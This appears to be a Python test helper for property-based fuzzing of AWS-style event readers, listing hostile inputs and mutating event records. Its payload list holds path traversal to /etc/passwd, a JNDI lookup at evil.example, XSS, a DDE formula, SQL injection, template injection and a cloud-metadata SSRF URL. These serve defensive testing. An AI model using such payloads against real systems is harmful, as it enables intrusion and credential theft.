"""Hostile values, and events that are nearly right: what readers of the outside have to survive."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

from hypothesis import strategies as st

CANARY = "sk-canary-7Yq2mN4xW9"
TEXTS = (
    "",
    " ",
    "a" * 3000,
    "x" * 300_000,
    "\x00",
    "\ud800",
    "²",
    "-1",
    "9" * 5000,
    "../../../etc/passwd",
    "..%2f..%2fetc",
    "a/b",
    "a#b",
    "línea\r\nSet-Cookie: x",
    "\x1b[31mred\x1b]8;;https://evil.example\x07",
    "<!channel> <@U0123> <https://evil.example|login>",
    '"><script>alert(1)</script>',
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "{% $states %}",
    "{{7*7}}",
    "'; DROP TABLE x; --",
    "http://169.254.169.254/latest/meta-data/",
    "file://localhost/etc/passwd",
    "https://[::1",
    "arn:aws:sqs:us-east-1:123456789012:somebody-elses",
    "9999-12-31",
    "0001-01-01",
    "2026-11-24T08:00:00+99:99",
    "NaN",
    "null",
    "‮evil",
)
NUMBERS = (0, -1, 1, 2**31, 2**63, 10**30, -(10**30), 0.1, -0.0, 1e308, float("inf"), float("nan"))
DEEP: Any = []
for _ in range(200):
    DEEP = [DEEP]
SHAPES: tuple[Any, ...] = (
    None, True, False, [], {}, [None], [[]], {"": ""}, {"a": {"b": {"c": []}}}, DEEP,
    ["a"] * 1000, {str(n): n for n in range(1000)},
)  # fmt: skip
VALUES = (*TEXTS, *NUMBERS, *SHAPES)
Way = tuple[str | int, ...]


def paths(value: Any, here: Way = ()) -> Iterator[Way]:
    """Of everything inside, the whole first."""
    yield here
    inner: Any = ()
    if isinstance(value, dict):
        inner = value.items()
    elif isinstance(value, list):
        inner = enumerate(value)
    for key, one in inner:
        yield from paths(one, (*here, key))


def _changed(event: Any, path: Way, how: str, value: Any) -> Any:
    if not path:
        return value if how == "replace" else [event]
    event = copy.deepcopy(event)
    *way, last = path
    holder = event
    for step in way:
        holder = holder[step]
    if how == "drop":
        del holder[last]
    elif how == "wrap":
        holder[last] = [holder[last]]
    elif how == "add" and isinstance(holder, dict):
        holder[value if isinstance(value, str) else "added"] = value
    elif how == "rename" and isinstance(holder, dict):
        holder[f"{last}X"] = holder.pop(last)
    elif how == "twice" and isinstance(holder, list):
        holder.append(holder[last])
    else:
        holder[last] = copy.deepcopy(value)
    return event


@st.composite
def mutants(draw: st.DrawFn, event: Any) -> Any:
    """The event with one to three things in it dropped, added, renamed, doubled or replaced."""
    for _ in range(draw(st.sampled_from([1, 1, 2, 3]))):
        inside = list(paths(event))[1:]
        path = draw(st.sampled_from(inside)) if inside and draw(st.integers(0, 15)) else ()
        how = draw(
            st.sampled_from(["replace", "replace", "drop", "add", "rename", "wrap", "twice"])
        )
        event = _changed(event, path, how, draw(st.sampled_from(VALUES)))
    return event


def opened(event: Any) -> Any:
    """JSON that lies in an event as text, as if it lay there as it is."""
    return _bodies(event, json.loads)


def closed(event: Any) -> Any:
    """The opposite of `opened`."""
    return _bodies(event, lambda body: body if isinstance(body, str) else json.dumps(body))


def _bodies(event: Any, turn: Any) -> Any:
    records = event.get("Records") if isinstance(event, dict) else None
    if not isinstance(records, list):
        return event
    turned = [
        {**one, "body": turn(one["body"])} if isinstance(one, dict) and "body" in one else one
        for one in records
    ]
    return {**event, "Records": turned}
